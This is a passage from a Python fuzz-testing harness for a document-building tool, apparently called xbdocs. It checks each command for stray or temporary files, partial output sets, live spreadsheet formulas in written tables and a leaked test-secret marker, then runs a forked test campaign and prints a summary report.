    return paths


def _inside(path: str, allowed: list[str]) -> bool:
    """Whether ``path`` is one of the ``allowed`` outputs, in one, beside one as its
    journal or draft, or a folder made to hold one."""
    return any(path == a or path.startswith((a + "/", a + "-", a + ".draft.json"))
               or a.startswith(path + "/") for a in allowed)


def judge_files(work: Path, folder: Path, before: dict, argv: list[str], code,
                case: Case) -> list[str]:
    """What is wrong with what one command left: files outside what it names, temporary
    files, a partial set, a build's files after its error, live formulas in tables."""
    problems = []
    after = _listing(work)
    changed = sorted(p for p, stamp in after.items() if before.get(p) != stamp)
    allowed = []
    for name in _named_outputs(argv, case):
        target = Path(os.path.normpath(folder / Path(name).expanduser()))
        with contextlib.suppress(ValueError):
            allowed.append(target.relative_to(work).as_posix())
    outside = [p for p in changed if not _inside(p, allowed)]
    if outside:
        problems.append(f"written outside the named outputs: {outside[:3]}")
    leftovers = [p for p in changed if Path(p).name.startswith(".") and p not in before]
    if leftovers:
        problems.append(f"temporary files left: {leftovers[:3]}")
    if argv[0] in ("build", "plan", "notice") and "-o" in argv:
        outdir = f"{folder.relative_to(work).as_posix()}/{argv[argv.index('-o') + 1]}"
        written = [p for p in changed if p.startswith(outdir + "/")]
        if code == 1 and written:
            problems.append(f"files written on error: {written[:3]}")
        if code == 0 and f"{outdir}/manifest.json" not in after:
            problems.append("no manifest after a build")
    for name in changed:
        path = work / name
        if path.is_symlink() or not path.is_file():
            continue
        if path.name == "manifest.json":
            problems += _partial(path)
        elif path.suffix.lower() == ".csv":
            problems += _csv_formulas(path, case, name)
        elif path.suffix.lower() == ".xlsx":
            problems += _xlsx_formulas(path, name)
    return problems


def _partial(manifest: Path) -> list[str]:
    try:
        listed = json.loads(manifest.read_text(encoding="utf-8"))["files"]
        missing = [f["name"] for f in listed if not (manifest.parent / f["name"]).is_file()]
    except (OSError, ValueError, KeyError, TypeError) as exc:
        return [f"no readable manifest: {type(exc).__name__}"]
    return [f"partial set: {missing[:3]}"] if missing else []


def _csv_formulas(path: Path, case: Case, name: str) -> list[str]:
    """A cell a spreadsheet would run as a formula, after the CSV's quoting is undone."""
    try:
        text = path.read_bytes().decode("utf-8-sig")
    except (OSError, UnicodeDecodeError) as exc:
        return [f"unreadable table written: {name}: {type(exc).__name__}"]
    first = text.split("\n", 1)[0]
    delimiter = max((";", ",", "\t"), key=first.count)
    try:
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    except csv.Error as exc:
        return [f"unreadable table written: {name}: {exc}"]
    live = [cell for row in rows for cell in row
            if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)]
    if marker_of(case) in text:
        return [f"leaked contents: the secret file's marker in {Path(name).name}"]
    return [f"live formula in {Path(name).name}: {live[0][:40]!r}"] if live else []


def _xlsx_formulas(path: Path, name: str) -> list[str]:
    from openpyxl import load_workbook

    try:
        book = load_workbook(path)
    except Exception as exc:  # a table xbdocs wrote that a spreadsheet cannot open
        return [f"unreadable table written: {name}: {type(exc).__name__}"]
    live = [cell.value for sheet in book.worksheets for row in sheet.iter_rows()
            for cell in row if cell.data_type == "f"]
    return [f"live formula in {Path(name).name}: {str(live[0])[:40]!r}"] if live else []


# --- the long campaign ------------------------------------------------------------------------

def warm_up() -> None:
    """Build, batch, import and plan once in this process, so that the forked children
    start with the caches a long-running process has (and the costs are the cases')."""
    with tempfile.TemporaryDirectory(prefix="xbdocs-fuzz-warm-") as work:
        folder = Path(work)
        (folder / "answers.yaml").write_text(SAMPLES[1].read_text(encoding="utf-8"),
                                             encoding="utf-8")
        (folder / "import.yaml").write_text("agreements:\n  - answers: answers.yaml\n",
                                            encoding="utf-8")
        plan = ROOT / "samples" / "plans" / "pavlodar-2027-2028.yaml"
        cwd = os.getcwd()
        os.chdir(folder)
        try:
            for argv in (["build", "answers.yaml", "-o", "out", "--stage", "all",
                          "--no-sheet-count"],
                         ["batch", ".", "-o", "batch", "-j", "1", "--no-sheet-count"],
                         ["registry", "--db", "reg.sqlite3", "import", "import.yaml"],
                         ["registry", "--db", "reg.sqlite3", "export", "--format", "xlsx",
                          "-o", "r.xlsx"],
                         ["registry", "--db", "reg.sqlite3", "export", "--format", "docx",
                          "-o", "r.docx"],
                         ["registry", "--db", "reg.sqlite3", "due"],
                         ["plan", str(plan), "--answers", "answers.yaml", "-o", "plan"]):
                _run_command(argv, "", 60)
        finally:
            os.chdir(cwd)
        from tests import fuzz_tables

        fuzz_tables.xlsx_bytes(fuzz_tables.table([fuzz_tables.sample_row(random.Random(1))]))
        _real_docx()


def _cleaned(work: Path) -> None:
    for path in work.rglob("*"):  # unreadable files and folders, for the clean-up
        with contextlib.suppress(OSError):
            if not path.is_symlink():
                path.chmod(0o700)
    shutil.rmtree(work, ignore_errors=True)


def campaign(count: int, seed: int = 1, jobs: int = 2,
             seconds: int = SECONDS_PER_CASE) -> list[Outcome]:
    """``count`` generated cases, ``jobs`` forked children at a time from this warmed-up
    process; each child's address space is limited and its peak memory recorded."""
    warm_up()
    folders: dict[str, Path] = {}

    def drawn() -> Iterator[tuple[Case, Path]]:
        for index in range(count):
            case = make_case(random.Random(f"{seed}:{index}"), index)
            folders[case.name] = Path(tempfile.mkdtemp(prefix="xbdocs-fuzz-"))
            yield case, folders[case.name]

    results: list[Outcome] = []
    for outcome in run_many(drawn(), jobs, seconds):
        _cleaned(folders.pop(outcome.name))
        results.append(outcome)
        if len(results) % 10 == 0 or len(results) == count:
            print(f"\r{len(results)}/{count}", end="", file=sys.stderr, flush=True)
    print(file=sys.stderr)
    return results


def _kind(problem: str) -> str:
    problem = re.sub(r"^\[\d+:[^\]]*\] ", "", problem)
    return re.split(r"[:(\[]", problem, maxsplit=1)[0].strip()


def _class(name: str) -> str:
    """A case's class: its name without the index."""
    return name.split("-", 1)[1] if "-" in name and name.split("-", 1)[0].isdigit() else name


def report(results: list[Outcome], seconds: float | None = None) -> str:
    codes = Counter(str(c) for r in results for c in r.codes)
    doors = Counter(r.door for r in results)
    kinds = Counter(_kind(p) for r in results for p in r.problems)
    bad = [r for r in results if r.problems]
    peaks = sorted(results, key=lambda r: r.peak_mb, reverse=True)
    lines = [f"inputs: {len(results)} ("
             + ", ".join(f"{door} {n}" for door, n in doors.most_common()) + ")",
             f"commands: {sum(len(r.codes) for r in results)}",
             "exit codes (per command): " + ", ".join(
                 f"{code}: {n}" for code, n in sorted(codes.items())),
             "problems: " + (", ".join(f"{kind}: {n}" for kind, n in kinds.most_common())
                             or "none"),
             f"inputs with a problem: {len(bad)}"]
    if peaks:
        lines.append("peak memory: " + ", ".join(
            f"{r.peak_mb:.0f} MB ({_class(r.name)})" for r in peaks[:3]))
    if seconds is not None:
        slow = max(results, key=lambda r: r.seconds, default=None)
        lines.append(f"time: {seconds:.0f} s" + (f"; slowest case {slow.seconds:.1f} s "
                                                f"({_class(slow.name)})" if slow else ""))
    by_class = Counter(_class(r.name) for r in bad)
    lines += [f"  {n:5d}  {name}" for name, n in by_class.most_common(60)]
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--count", type=int, default=2000)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--jobs", type=int, default=2)
    parser.add_argument("--seconds", type=int, default=SECONDS_PER_CASE,
                        help="stop a command after this long (a hang)")
    parser.add_argument("--failures", type=Path, help="write the failing cases here (JSON)")
    options = parser.parse_args(argv)
    with tempfile.TemporaryDirectory(prefix="xbdocs-fuzz-cache-") as cache:
        os.environ.setdefault("XBDOCS_CACHE_DIR", cache)  # never the user's own cache
        started = time.perf_counter()
        results = campaign(options.count, options.seed, options.jobs, options.seconds)
        took = time.perf_counter() - started
    print(report(results, took))
    if options.failures:
        options.failures.write_text(json.dumps(
            [{"case": r.name, "door": r.door, "codes": [str(c) for c in r.codes],
              "problems": r.problems, "peak_mb": r.peak_mb, "seconds": r.seconds}
             for r in results if r.problems], ensure_ascii=False, indent=1),
            encoding="utf-8")
    return 1 if any(r.problems for r in results) else 0


if __name__ == "__main__":
    # Run as tests.fuzzcases, the module the other fuzz modules import, not as __main__.
    from tests.fuzzcases import main as _main

    sys.exit(_main())
